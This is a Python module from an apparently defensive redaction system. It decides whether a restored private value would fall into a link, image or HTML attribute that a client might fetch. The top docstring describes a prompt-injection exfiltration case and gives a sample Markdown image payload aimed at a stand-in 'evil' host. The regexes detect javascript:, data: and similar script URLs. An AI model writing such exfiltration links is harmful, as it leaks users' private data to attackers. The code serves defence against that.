"""Where a restored value would land: a pure function of the text before it, so that a stream and a whole text agree.

Values return to prose and code. They do not return to places that a client may fetch or render on its own: link targets,
image URLs, HTML attributes, unless the link is `mailto:`, `tel:`, relative, or goes to a host that the user, the
system prompt or the policy named. An injected document can make a model write `![](https://evil/?q=PERSON_4K7Q2MX8FT)`.
"""

import re
from collections.abc import Callable, Iterable
from html import unescape
from typing import Final

WINDOW: Final = 4096  # characters of context; a URL longer than this is nobody's link

MAX_TARGETS: Final = 16  # openings of a link in one word; nobody writes more

Hosts = Callable[[], frozenset[str]]

_URL_END = r"[^\s<>\"'`|\\]*"
_WEB_URL: Final = re.compile(rf"(?:\b(?:https?|ftp|wss?):[/\\]{{2}}|\bwww\.|(?<=[\"'(=])//(?=[\w-]+\.)){_URL_END}$", re.IGNORECASE)
_SCRIPT_URL: Final = re.compile(r"\b(?:javascript|data|vbscript|blob|file):\S*$", re.IGNORECASE)
_REFERENCE: Final = re.compile(r"^(?:[ \t>*+-]|\d+[.)])*\[[^\]\n]+\]:\s*(?P<url><[^>]*|[^\s<>]*)$")
_TAG_START: Final = re.compile(r"<[a-zA-Z]")
_TAG: Final = re.compile(r"<[a-zA-Z](?:[^>\"']|\"[^\"]*\"|'[^']*')*>")
_ATTRIBUTE: Final = re.compile(
    r"[\s/\"'](?P<name>[a-zA-Z_:@][\w:.-]*)\s*=\s*\\*(?:\"(?P<double>[^\"]*)|'(?P<single>[^']*)|(?P<bare>[^\s\"'>]*))$"
)
_SCHEME: Final = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_HOST: Final = re.compile(r"(?:https?:)?//(?:[^\s/@?#]*@)?(\[[0-9a-f:.]+\]|[\w.-]+)", re.IGNORECASE)
_HOST_ENDS: Final = re.compile(r"(?::\d+)?[/?#]")  # a colon alone may yet turn the host into a user's name
_IGNORED: Final = re.compile(r"[\x00-\x20\x7f-\x9f]")  # what browsers skip in an address
_SPACE: Final = re.compile(r"\s")
_ANGLE_ENDS: Final = re.compile(r"[>\n]")
_ESCAPED: Final = re.compile(r"\\[()<>]")
_URL_ATTRIBUTES: Final = frozenset({"href", "src", "action", "formaction", "cite", "poster", "data", "srcset", "background", "xlink:href"})


def hosts_in(texts: Iterable[str]) -> frozenset[str]:
    """Return the hosts of every URL in `texts`, lower-cased: the ones somebody trusted already named."""
    return frozenset(match[1].lower().rstrip(".") for text in texts for match in _HOST.finditer(text))


def landing(before: str, hosts: Hosts) -> str | None:
    """Return the sink (`link`, `image`, `attribute`) that a value written after `before` would fall into, or None."""
    before = before[-WINDOW:]
    attribute = _attribute(before) if "<" in before else None
    if attribute is not None:
        name, value = attribute
        if name == "srcset":
            value = value.rpartition(",")[2]
        return None if name in _URL_ATTRIBUTES and _harmless(value, hosts) else "attribute"
    target = _markdown(before, hosts) if "](" in before else None
    if target is not None:
        return target or None
    line = before[before.rfind("\n") + 1 :]
    reference = _REFERENCE.search(line) if "]:" in line else None
    if reference:
        return None if _harmless(reference["url"].removeprefix("<"), hosts) else "link"
    return _address("" if not line or line[-1].isspace() else line.rsplit(None, 1)[-1], hosts)


def _address(word: str, hosts: Hosts) -> str | None:
    """Return the sink if a word is an address that runs on."""
    if ":" not in word and "//" not in word and "www." not in word.lower():
        return None
    if _SCRIPT_URL.search(word):
        return "link"
    web = _WEB_URL.search(word)
    # A bare `//` is a comment in most languages; it is a URL behind a scheme, or where a string or a value begins.
    return None if web is None or _unbalanced(web[0]) or _harmless(web[0], hosts) else "link"


def _markdown(before: str, hosts: Hosts) -> str | None:
    """Return the sink if the text ends in the target of a Markdown link, empty if that is harmless, None if it ends in none."""
    starts, start = [before.rfind("](<")], before.rfind("](")
    while start >= 0 and len(starts) < MAX_TARGETS and not _SPACE.search(before[start + 2 :].lstrip(" \t\n")):
        starts.append(start)
        start = before.rfind("](", 0, start)
    found = "link" if len(starts) == MAX_TARGETS else None
    for start in starts:
        target = before[start + 2 :].lstrip(" \t\n")
        plain = _ESCAPED.sub("", target)
        inside = not _ANGLE_ENDS.search(plain) if target.startswith("<") else not _SPACE.search(plain) and not _unbalanced(plain, "()")
        if start >= 0 and inside:
            if not _harmless(target.removeprefix("<"), hosts):
                return "image" if _is_image(before[:start]) else "link"
            found = found or ""
    return found


def _unbalanced(url: str, pairs: str = "()[]{}") -> bool:
    """Whether a bracket closes in the address that did not open there: the address ended before it."""
    for opening, closing in zip(pairs[::2], pairs[1::2], strict=True):
        depth = 0
        for character in url:
            depth += (character == opening) - (character == closing)
            if depth < 0:
                return True
    return False


def _attribute(before: str) -> tuple[str, str] | None:
    """Return the name and the value so far of the HTML attribute in which the text ends, or None."""
    position = 0
    while start := _TAG_START.search(before, position):
        tag = _TAG.match(before, start.start())
        if tag is None:
            open_tag = _ATTRIBUTE.search(before, start.start())
            if open_tag is None:
                return None
            return open_tag["name"].lower(), next(v for v in (open_tag["double"], open_tag["single"], open_tag["bare"]) if v is not None)
        position = tag.end()
    return None


def _is_image(label: str) -> bool:
    """Whether the Markdown label that ends `label` was opened by `![`."""
    depth = 1
    for index in range(len(label) - 1, -1, -1):
        depth += (label[index] == "]") - (label[index] == "[")
        if depth == 0:
            return label[index - 1 : index] == "!"
    return False


def _harmless(url: str, hosts: Hosts) -> bool:
    """Whether the link is one that may carry originals, judged by its beginning as a lenient reader would take it."""
    url = _IGNORED.sub("", unescape(url)).lower()
    # Markdown drops a backslash before punctuation, browsers take it for a slash.
    return _safe(url, hosts) if "\\" not in url else _safe(url.replace("\\", ""), hosts) and _safe(url.replace("\\", "/"), hosts)


def _safe(url: str, hosts: Hosts) -> bool:
    if url.startswith(("mailto:", "tel:")):
        return True
    if url.startswith("www."):
        url = f"//{url}"
    if url.startswith("//") or _SCHEME.match(url):
        match = _HOST.match(url)
        # The host must be complete before the value: what follows it could extend it.
        return bool(match and _HOST_ENDS.match(url, match.end()) and match[1].rstrip(".") in hosts())
    return True  # relative, or empty: then the value is the whole target and goes where it says itself
